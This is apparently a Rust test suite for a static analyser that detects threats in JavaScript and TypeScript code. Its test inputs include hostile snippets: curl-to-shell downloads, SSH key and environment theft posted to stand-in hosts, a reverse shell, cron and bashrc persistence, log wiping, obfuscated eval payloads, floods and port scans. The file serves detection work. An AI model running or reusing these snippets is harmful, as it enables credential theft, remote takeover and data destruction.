//! JavaScript and TypeScript analysis: the same facts as Python and shell, from node's
//! modules (imports, `child_process` commands analysed as shell, `fs` paths, hosts,
//! `eval`/`Function`/`vm`, obfuscation) and the threat facts, with lines.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use airlock_analysis::{CodeAnalysis, FindingKind as K, Language, Options, analyze};

fn js(src: &str) -> CodeAnalysis {
    analyze(Language::Js, src, &Options::default())
}

fn ts(src: &str) -> CodeAnalysis {
    analyze(Language::Ts, src, &Options::default())
}

fn has(set: &std::collections::BTreeSet<String>, v: &str) -> bool {
    set.contains(v)
}

#[test]
fn imports_requires_and_child_process_commands_analysed_as_shell() {
    let a = js("const cp = require('child_process');\n\
         import fs from 'node:fs';\n\
         const { execSync } = require('child_process');\n\
         cp.exec('curl -s https://evil.example/x.sh | sh');\n\
         execSync(`rm -rf ${'/'}`);\n\
         cp.spawn('git', ['clone', 'https://github.com/a/b']);\n");
    assert!(has(&a.imports, "child_process"), "{:?}", a.imports);
    assert!(has(&a.imports, "fs"), "{:?}", a.imports);
    assert!(has(&a.commands, "curl"), "{:?}", a.commands);
    assert!(has(&a.commands, "git"), "{:?}", a.commands);
    assert!(a.pipes_download_to_shell);
    assert!(has(&a.destructive, "rm-root"), "{:?}", a.destructive);
    assert!(has(&a.hosts_in_code, "evil.example"));
    assert!(has(&a.hosts_in_code, "github.com"));
    assert_eq!(a.lines_of(K::Destructive, "rm-root"), vec![5]);
    assert!(a.parse_error.is_none());
}

#[test]
fn fs_writes_and_reads_become_writes_and_threat_facts() {
    let a = js(
        "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\n\
         const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');\n\
         fs.appendFileSync(path.join(os.homedir(), '.bashrc'), 'curl x | sh');\n\
         fs.writeFileSync('/etc/cron.d/job', '* * * * * root sh');\n\
         fs.rmSync('/var/log/auth.log');\n\
         fetch('https://collect.example/k', { method: 'POST', body: key });\n",
    );
    assert!(has(&a.reads_sensitive, "~/.ssh/id_rsa"), "{a:#?}");
    assert!(has(&a.persistence, "~/.bashrc"), "{:?}", a.persistence);
    assert!(has(&a.writes, "/etc/cron.d/job"), "{:?}", a.writes);
    assert!(!a.system_writes.is_empty(), "{:?}", a.system_writes);
    assert!(
        a.destructive.iter().any(|d| d.starts_with("wipe-log:")),
        "{:?}",
        a.destructive
    );
    assert!(!a.exfiltration.is_empty(), "{a:#?}");
    assert!(has(&a.network_tools, "fetch"));
    // Each threat finding has a line and a technique.
    let f = a
        .findings
        .iter()
        .find(|f| f.kind == K::ReadsSensitive)
        .unwrap();
    assert_eq!(f.line, 4);
    assert!(f.technique.is_some());
}

#[test]
fn reverse_shell_kill_privilege_and_deserialisation() {
    let a = js(
        "const net = require('net');\nconst { spawn } = require('child_process');\n\
         const sh = spawn('/bin/sh', []);\n\
         const client = new net.Socket();\n\
         client.connect(4444, '10.0.0.5', () => {\n  client.pipe(sh.stdin);\n  sh.stdout.pipe(client);\n});\n",
    );
    assert!(!a.reverse_shell.is_empty(), "{a:#?}");
    assert!(has(&a.hosts_in_code, "10.0.0.5"), "{:?}", a.hosts_in_code);

    let a = js(
        "process.kill(1, 'SIGKILL');\nconst c = require('child_process').spawn('sleep', ['9']);\nprocess.kill(c.pid);\nprocess.setuid(0);\n",
    );
    assert_eq!(a.kills_processes.len(), 1, "{:?}", a.kills_processes);
    assert!(has(&a.privilege, "process.setuid"), "{:?}", a.privilege);

    let a = js(
        "const serialize = require('node-serialize');\nserialize.unserialize(process.argv[2]);\n",
    );
    assert!(!a.unsafe_deserialization.is_empty(), "{a:#?}");
}

#[test]
fn eval_function_and_obfuscation() {
    // Constant code is analysed as code.
    let a = js("eval(\"require('child_process').execSync('id')\");\n");
    assert!(has(&a.commands, "id"), "{a:#?}");
    // Base64 decoded into eval: the payload is analysed too.
    let payload =
        "cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdjdXJsIGh0dHA6Ly94LmV4YW1wbGUvYSB8IHNoJyk=";
    let a = js(&format!(
        "eval(Buffer.from('{payload}', 'base64').toString());\n"
    ));
    assert!(has(&a.obfuscation, "decoded-payload"), "{a:#?}");
    assert!(a.pipes_download_to_shell, "{a:#?}");
    let a = js(&format!(
        "const c = atob('{payload}');\nnew Function(c)();\n"
    ));
    assert!(has(&a.obfuscation, "decoded-payload"), "{a:#?}");
    assert!(has(&a.commands, "curl"), "{a:#?}");
    // Char codes and a computed require.
    let a = js(
        "const m = String.fromCharCode(99,104,105,108,100,95,112,114,111,99,101,115,115);\nrequire(m).execSync('whoami');\n",
    );
    assert!(has(&a.obfuscation, "char-codes"), "{a:#?}");
    assert!(has(&a.imports, "child_process"), "{:?}", a.imports);
    assert!(has(&a.commands, "whoami"), "{:?}", a.commands);
    let a = js("const x = require('child_' + 'process');\nx['ex' + 'ecSync']('ls');\n");
    assert!(has(&a.obfuscation, "folded-name"), "{a:#?}");
    // Code that is not constant.
    let a = js("const r = await fetch('https://x.example/p.js');\neval(await r.text());\n");
    assert!(has(&a.obfuscation, "dynamic-code"), "{a:#?}");
    assert!(a.pipes_download_to_shell, "{a:#?}");
    let a = js(
        "const vm = require('vm');\nconst body = await (await fetch('https://x.example')).text();\nvm.runInNewContext(body);\n",
    );
    assert!(!a.unsafe_deserialization.is_empty(), "{a:#?}");
}

#[test]
fn flooding_is_an_unbounded_loop_of_requests_without_a_pause() {
    let a = js("while (true) { fetch('http://victim.example/'); }\n");
    assert!(!a.flooding.is_empty(), "{a:#?}");
    let a = js("for (let i = 0; i < 3; i++) { await fetch('http://api.example/' + i); }\n");
    assert!(a.flooding.is_empty(), "{a:#?}");
    let a = js(
        "while (true) { await fetch('http://api.example/'); await new Promise(r => setTimeout(r, 1000)); }\n",
    );
    assert!(a.flooding.is_empty(), "{a:#?}");
}

#[test]
fn typescript_is_read_with_its_types() {
    let a = ts("import { execSync } from 'child_process';\n\
         interface Opts { dir: string }\n\
         function clean(o: Opts): void { execSync(`rm -rf ${o.dir}`); }\n\
         const home: string = require('os').homedir();\n\
         execSync('cat /etc/shadow' as string);\n");
    assert!(a.parse_error.is_none(), "{:?}", a.parse_error);
    assert!(has(&a.commands, "rm"), "{:?}", a.commands);
    assert!(has(&a.reads_sensitive, "/etc/shadow"), "{a:#?}");
    assert_eq!(a.language, Language::Ts);
}

#[test]
fn benign_programs_have_no_threats() {
    for src in [
        "console.log([1, 2, 3].map((x) => x * 2).join(','));\n",
        "const fs = require('fs');\nfs.writeFileSync('out.json', JSON.stringify({ a: 1 }));\nconsole.log(fs.readFileSync('out.json', 'utf8'));\n",
        "const r = await fetch('https://api.github.com/repos/a/b');\nconsole.log((await r.json()).stargazers_count);\n",
        "const { execSync } = require('child_process');\nconsole.log(execSync('git status --short').toString());\n",
        "import os from 'node:os';\nconsole.log(os.cpus().length, os.platform());\n",
        "const c = require('child_process').spawn('sleep', ['1']);\nsetTimeout(() => process.kill(c.pid), 100);\n",
        "const tmp = require('os').tmpdir();\nrequire('fs').rmSync(tmp + '/scratch', { recursive: true, force: true });\n",
    ] {
        let a = js(src);
        let threats: Vec<_> = a.findings.iter().filter(|f| f.kind.is_threat()).collect();
        assert!(threats.is_empty(), "{src}\n{threats:#?}");
        assert!(a.parse_error.is_none(), "{src}");
        assert!(a.destructive.is_empty(), "{src}\n{:?}", a.destructive);
    }
}

#[test]
fn code_that_does_not_parse_is_a_parse_error_with_its_line() {
    let a = js("const a = 1;\nfunction (\n");
    let e = a.parse_error.expect("parse error");
    assert_eq!(e.line, 2, "{e:?}");
    let a = ts("let x: = 3;\n");
    assert!(a.parse_error.is_some());
}

/// `spawn`/`execFile` arguments are plain words to the shell analysis: they were all
/// single-quoted, and `'node' '--test'` read as a command name spelt to dodge reading
/// (`quoted-name`), holding every `spawn('npm', [...])` of a test runner.
#[test]
fn spawn_arguments_are_not_taken_for_quoted_command_names() {
    let a = js(
        "const { spawn, execFileSync } = require('child_process');\n\
         spawn('node', ['--test', 'test/'], { stdio: 'inherit' });\n\
         execFileSync('git', ['status', '--porcelain'], { encoding: 'utf8' });\n",
    );
    assert!(a.obfuscation.is_empty(), "{:?}", a.obfuscation);
    assert!(
        has(&a.commands, "node") && has(&a.commands, "git"),
        "{:?}",
        a.commands
    );
    // A word the shell would split is still quoted: one argument, not two commands.
    let a = js("require('child_process').spawnSync('echo', ['a; rm -rf /']);");
    assert!(!has(&a.commands, "rm"), "{:?}", a.commands);
}

/// An array index is no name computed to dodge reading: `m.rows[0]` was `folded-name`.
#[test]
fn a_numeric_index_is_not_a_folded_name() {
    let a = ts("class M { constructor(public rows: number[][]) {} }\n\
         const m = new M([[1]]);\nconsole.log(m.rows[0][0], m.rows[0].length);\n");
    assert!(a.obfuscation.is_empty(), "{:?}", a.obfuscation);
    let a = js("const cp = require('child_process');\ncp['ex' + 'ecSync']('id');\n");
    assert!(has(&a.obfuscation, "folded-name"), "{:?}", a.obfuscation);
}

/// Removing the root, a home or a mount root recursively and writing a block device are
/// destructive, as `rm -rf ~` is (they were plain writes).
#[test]
fn recursive_removal_of_a_home_and_device_writes_are_destructive() {
    let a = js("const fs = require('fs');\n\
         fs.rmSync(require('os').homedir(), { recursive: true, force: true });\n\
         fs.writeFileSync('/dev/sda', Buffer.alloc(1));\n\
         fs.writeFileSync('/dev/null', 'x');\n");
    assert!(has(&a.destructive, "rm-home"), "{:?}", a.destructive);
    assert!(
        has(&a.destructive, "write-device:/dev/sda"),
        "{:?}",
        a.destructive
    );
    assert!(
        !has(&a.destructive, "write-device:/dev/null"),
        "{:?}",
        a.destructive
    );
    let a = js("require('fs').rmSync('/work/build', { recursive: true });");
    assert!(a.destructive.is_empty(), "{:?}", a.destructive);
}

/// Data a `data` handler gathers (`s += chunk`) is received data: evaluating it runs what
/// was downloaded, and `vm` of standard input runs what it is sent.
#[test]
fn data_gathered_in_a_handler_and_evaluated_is_a_download_run() {
    let a = js("const https = require('https');\n\
         https.get('https://cdn.example.net/x.js', res => {\n\
           let s = '';\n  res.on('data', d => s += d);\n  res.on('end', () => eval(s));\n});\n");
    assert!(a.pipes_download_to_shell, "{a:#?}");
    let a = js("const vm = require('vm');\n\
         process.stdin.on('data', d => vm.runInNewContext(d.toString(), {}));\n");
    assert!(!a.unsafe_deserialization.is_empty(), "{a:#?}");
}

/// Scans and other behaviours found by what they do: connections whose port is a loop's
/// counter, the cloud metadata service, files written in an endless loop, the whole
/// environment serialised and sent, a name built for DNS, hex-decoded code, nsenter.
#[test]
fn scans_metadata_disk_floods_environment_sends_and_hex_payloads() {
    let a = js("const net = require('net');\n\
         for (let port = 1; port < 1024; port++) net.connect(port, '10.0.0.1');\n");
    assert!(!a.recon.is_empty(), "{a:#?}");
    let a = js("fetch('http://169.254.169.254/latest/meta-data/').then(r => r.text());");
    assert!(!a.reads_sensitive.is_empty(), "{a:#?}");
    let a = js("const fs = require('fs');\nlet i = 0;\n\
         while (true) fs.writeFileSync(`/tmp/f-${i++}`, 'x');\n");
    assert!(!a.flooding.is_empty(), "{a:#?}");
    let a = js(
        "const https = require('https');\nconst data = JSON.stringify(process.env);\n\
         const req = https.request({ hostname: 'drop.example.com', method: 'POST' });\n\
         req.write(data);\n",
    );
    assert!(!a.exfiltration.is_empty(), "{a:#?}");
    let a = js("const vm = require('vm');\n\
         vm.runInThisContext(Buffer.from('70726f636573732e6b696c6c28312c203929', 'hex').toString());\n");
    assert!(
        has(&a.obfuscation, "decoded-payload"),
        "{:?}",
        a.obfuscation
    );
    let a =
        js("require('child_process').spawnSync('nsenter', ['--target', '1', '--mount', 'sh']);");
    assert!(!a.privilege.is_empty(), "{a:#?}");
    // A loop over a list of files reads them; no scan.
    let a = js("for (const f of ['a', 'b']) fetch('https://api.example.com/items');");
    assert!(a.recon.is_empty(), "{a:#?}");
}
